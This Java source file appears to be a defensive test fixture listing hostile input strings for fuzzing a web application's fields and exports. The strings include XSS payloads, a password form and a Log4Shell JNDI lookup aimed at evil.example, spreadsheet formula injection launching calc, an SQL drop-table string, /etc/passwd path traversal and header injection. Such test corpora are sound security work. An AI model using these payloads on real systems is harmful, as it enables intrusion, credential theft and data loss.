package org.ascribe.house;

import java.util.LinkedHashMap;
import java.util.Map;

/** What people write who mean harm, by the name of what it tries. */
final class OutsideText {
    private OutsideText() {}

    /** Each is tried in every field and looked for in every page and export. */
    static Map<String, String> corpus() {
        Map<String, String> corpus = new LinkedHashMap<>();
        corpus.put("script", "<script>alert(1)</script>");
        corpus.put("image", "\"><img src=x onerror=alert(1)>");
        corpus.put("drawing", "'><svg/onload=alert(1)>");
        corpus.put("end of the title", "</title><script>alert(1)</script>");
        corpus.put("end of a field", "</textarea><iframe srcdoc='<script>alert(1)</script>'>");
        corpus.put("end of a script", "</script><img src=x onerror=alert(1)>");
        corpus.put("comment", "<!--<script>alert(1)//-->");
        corpus.put("character data", "]]><script>alert(1)</script><![CDATA[");
        corpus.put("attribute", "x\" autofocus onfocus=alert(1) y=\"");
        corpus.put("bare attribute", "x onmouseover=alert(1)//");
        corpus.put("style", "</style><style>body{display:none}</style>");
        corpus.put("base", "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>");
        corpus.put("form", "</form><form action=//evil.example><input name=password>");
        corpus.put("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &amp;quot;");
        corpus.put(
                "template",
                "{inject:viewer.name} {#raw}<b>{/raw} ${7*77777777} {{7*77777777}} #{7*77777777} <%= 7*77777777 %>");
        corpus.put("script address", "javascript:alert(1)");
        corpus.put("data address", "data:text/html,<script>alert(1)</script>");
        corpus.put("formula", "=HYPERLINK(\"http://evil.example\",\"x\")");
        corpus.put("command", "@SUM(1+1)*cmd|' /C calc'!A0");
        corpus.put("plus", "+1+1");
        corpus.put("minus", "-2+3");
        corpus.put("full-width formula", "\u3000＝1+1");
        corpus.put("tab formula", "\t=1+1");
        corpus.put("cells", "a\",=1+1,\"b\r\n=1+1");
        corpus.put("headers", "x\r\nSet-Cookie: ascribe=mine\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>");
        corpus.put("line separators", "x\u2028alert(1)\u2029\u0085y");
        corpus.put("bidi override", "user\u202Etxt.exe\u202C \u2066x\u2069");
        corpus.put("invisible", "a\u200Bb\uFEFFc\u00ADd\u2060e");
        corpus.put("combining", "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F".repeat(20));
        corpus.put("emoji", "😀👩‍👩‍👧‍👦 é e\u0301 中文 العربية");
        corpus.put("query", "'; drop table article; -- %_\\ !");
        corpus.put("search", "a AND (b OR \"c~2 d*?:^/[ TO ]{}\\");
        corpus.put("path", "../../etc/passwd%00.html");
        corpus.put("log", "${jndi:ldap://evil.example/x}\n2026-01-01 ERROR forged");
        corpus.put("long word", "x".repeat(900));
        corpus.put("NUL", "a\u0000b");
        corpus.put("escape", "a\u001B[2Jb\u0007\u0008");
        corpus.put("blank", " \t\u3000");
        return corpus;
    }
}
